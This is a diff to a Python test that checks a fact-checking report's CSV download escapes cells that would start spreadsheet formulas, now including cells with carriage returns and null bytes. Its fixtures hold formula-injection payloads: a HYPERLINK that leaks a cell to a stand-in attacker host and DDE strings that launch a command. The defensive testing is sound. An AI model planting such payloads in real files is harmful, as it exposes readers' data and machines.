@@ -50,7 +50,8 @@ def test_a_column_name_with_markup_is_escaped_in_the_label_too():
 
 def test_a_csv_download_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_as_they_are():
     """A participant's note `=HYPERLINK("https://evil.example/?leak="&B2, ...)` reached the chapter's CSV download as
-    written; a spreadsheet opening it would run it. Text that would start a formula is written as text."""
+    written; a spreadsheet opening it would run it. Text that would start a formula is written as text; a cell holding a carriage return
+    (which pandas leaves unquoted under its own line ending) stays one cell."""
     import base64
     import io
     import re
@@ -60,10 +61,12 @@ def test_a_csv_download_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_as
     from factcheck.report.display import csv_download
 
     cells = ['=HYPERLINK("https://evil.example/?leak="&B2,"source")', "@SUM(1+9)*cmd|' /C calc'!A0",
-             "+cmd|' /C calc'!A0", "-2+3", "\tx", "-3", "+2.5%", "-1,200", "a note", ""]
-    frame = pd.DataFrame({"note": cells, "value": [-5, 1, 2, 3, 4, 5, 6, 7, 8, 9]})
+             "+cmd|' /C calc'!A0", "-2+3", "\tx", "\r=1+1", "\0=1+1", "-3", "+2.5%", "-1,200", "a note", ""]
+    frame = pd.DataFrame({"note": cells, "value": [-5, *range(1, 12)]})
     payload = re.search(r"base64,([^\"]+)\"", csv_download(frame, "x.csv")).group(1)
-    read = pd.read_csv(io.StringIO(base64.b64decode(payload).decode("utf-8")), keep_default_na=False, dtype=str)
-    assert read["note"].tolist() == ["'" + cell for cell in cells[:5]] + cells[5:]
+    written = base64.b64decode(payload).decode("utf-8")
+    read = pd.read_csv(io.StringIO(written), keep_default_na=False, dtype=str)
+    assert written.count("\r\n") == len(cells) + 1   # a row a line: the cell holding a carriage return is quoted
+    assert read["note"].tolist() == ["'" + cell for cell in cells[:7]] + cells[7:]
     assert read["value"].tolist() == [str(n) for n in frame["value"]]   # numbers are not text: left alone
     assert frame["note"].tolist() == cells   # the table the page shows is not changed
